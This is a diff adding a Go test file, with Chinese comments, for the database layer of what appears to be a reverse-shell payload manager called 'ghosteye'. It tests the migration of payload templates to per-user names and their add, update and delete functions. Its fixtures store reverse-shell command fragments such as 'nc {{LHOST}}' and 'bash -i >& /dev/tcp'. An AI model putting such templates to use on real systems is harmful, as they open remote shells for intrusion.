@@ -0,0 +1,155 @@
+package database
+
+import (
+	"database/sql"
+	"fmt"
+	"os"
+	"strings"
+	"testing"
+
+	"ghosteye/models"
+)
+
+// TestMain 在临时目录中创建旧版本的模板表，再初始化数据库
+func TestMain(m *testing.M) {
+	os.Exit(func() int {
+		dir, err := os.MkdirTemp("", "database-test")
+		if err != nil {
+			fmt.Fprintln(os.Stderr, err)
+			return 1
+		}
+		defer os.RemoveAll(dir)
+
+		wd, _ := os.Getwd()
+		defer os.Chdir(wd)
+		if err := os.Chdir(dir); err != nil {
+			fmt.Fprintln(os.Stderr, err)
+			return 1
+		}
+		if err := createLegacyTemplates(); err != nil {
+			fmt.Fprintln(os.Stderr, err)
+			return 1
+		}
+		if err := InitDatabase(); err != nil {
+			fmt.Fprintln(os.Stderr, err)
+			return 1
+		}
+		defer CloseDatabase()
+
+		return m.Run()
+	}())
+}
+
+// createLegacyTemplates 创建模板名全局唯一的旧版本模板表
+func createLegacyTemplates() error {
+	legacy, err := sql.Open("sqlite", "./ghosteye.db")
+	if err != nil {
+		return err
+	}
+	defer legacy.Close()
+
+	_, err = legacy.Exec(`
+		CREATE TABLE payload_templates (
+			id INTEGER PRIMARY KEY AUTOINCREMENT,
+			name TEXT UNIQUE NOT NULL,
+			platform TEXT NOT NULL DEFAULT 'linux',
+			protocol TEXT NOT NULL DEFAULT 'tcp',
+			pin TEXT NOT NULL DEFAULT '',
+			requires TEXT NOT NULL DEFAULT '',
+			template TEXT NOT NULL,
+			description TEXT NOT NULL DEFAULT '',
+			builtin INTEGER DEFAULT 0,
+			username TEXT NOT NULL DEFAULT '',
+			created_at TIMESTAMP DEFAULT CURRENT_TIMESTAMP
+		);
+		INSERT INTO payload_templates (name, template, builtin) VALUES ('bash', 'bash -i', 1);
+		INSERT INTO payload_templates (name, template, username) VALUES ('mine', 'nc {{LHOST}}', 'alice');
+	`)
+	return err
+}
+
+// templateNames 返回所有模板的“用户名/模板名”
+func templateNames(t *testing.T) map[string]models.PayloadTemplate {
+	t.Helper()
+
+	templates, err := GetPayloadTemplates("")
+	if err != nil {
+		t.Fatal(err)
+	}
+	names := make(map[string]models.PayloadTemplate)
+	for _, tpl := range templates {
+		names[tpl.Username+"/"+tpl.Name] = tpl
+	}
+	return names
+}
+
+func TestPayloadTemplatesMigration(t *testing.T) {
+	var schema string
+	if err := db.QueryRow("SELECT sql FROM sqlite_master WHERE name = 'payload_templates'").Scan(&schema); err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(schema, "name TEXT UNIQUE") || !strings.Contains(schema, "UNIQUE(username, name)") {
+		t.Errorf("schema was not migrated: %s", schema)
+	}
+
+	// 旧表中的数据保留
+	names := templateNames(t)
+	if tpl, ok := names["/bash"]; !ok || !tpl.Builtin || tpl.Template != "bash -i" {
+		t.Errorf("builtin template after migration = %+v", tpl)
+	}
+	if tpl, ok := names["alice/mine"]; !ok || tpl.Builtin || tpl.Template != "nc {{LHOST}}" {
+		t.Errorf("custom template after migration = %+v", tpl)
+	}
+
+	// 再次迁移不做任何事
+	if err := migratePayloadTemplates(); err != nil {
+		t.Fatalf("second migration: %v", err)
+	}
+	if len(templateNames(t)) != len(names) {
+		t.Error("second migration changed the templates")
+	}
+}
+
+func TestPayloadTemplateNamesPerUser(t *testing.T) {
+	tpl := models.PayloadTemplate{Name: "shared", Platform: "linux", Protocol: "tcp", Template: "sh -i"}
+	if err := AddPayloadTemplate("alice", tpl); err != nil {
+		t.Fatalf("alice: %v", err)
+	}
+	// 其他用户可以使用同样的模板名
+	tpl.Template = "bash -i"
+	if err := AddPayloadTemplate("bob", tpl); err != nil {
+		t.Fatalf("bob: %v", err)
+	}
+	// 同一用户内模板名唯一
+	if err := AddPayloadTemplate("alice", tpl); err == nil {
+		t.Error("duplicate template name for the same user was accepted")
+	}
+
+	// 修改和删除只影响自己的模板
+	tpl.Template = "zsh -i"
+	if err := UpdatePayloadTemplate("bob", tpl); err != nil {
+		t.Fatalf("update: %v", err)
+	}
+	if err := DeletePayloadTemplate("alice", "shared"); err != nil {
+		t.Fatalf("delete: %v", err)
+	}
+	names := templateNames(t)
+	if _, ok := names["alice/shared"]; ok {
+		t.Error("alice's template was not deleted")
+	}
+	if names["bob/shared"].Template != "zsh -i" {
+		t.Errorf("bob's template = %+v", names["bob/shared"])
+	}
+
+	// 内置模板与用户的同名模板互不影响
+	if err := AddPayloadTemplate("bob", models.PayloadTemplate{Name: "bash", Template: "custom"}); err != nil {
+		t.Fatalf("custom template named like a builtin: %v", err)
+	}
+	if err := SavePayloadTemplates([]models.PayloadTemplate{{Name: "bash", Platform: "linux", Protocol: "tcp", Template: "bash -i >& /dev/tcp"}}); err != nil {
+		t.Fatalf("SavePayloadTemplates: %v", err)
+	}
+	names = templateNames(t)
+	if names["/bash"].Template != "bash -i >& /dev/tcp" || names["bob/bash"].Template != "custom" {
+		t.Errorf("builtin %+v, custom %+v", names["/bash"], names["bob/bash"])
+	}
+}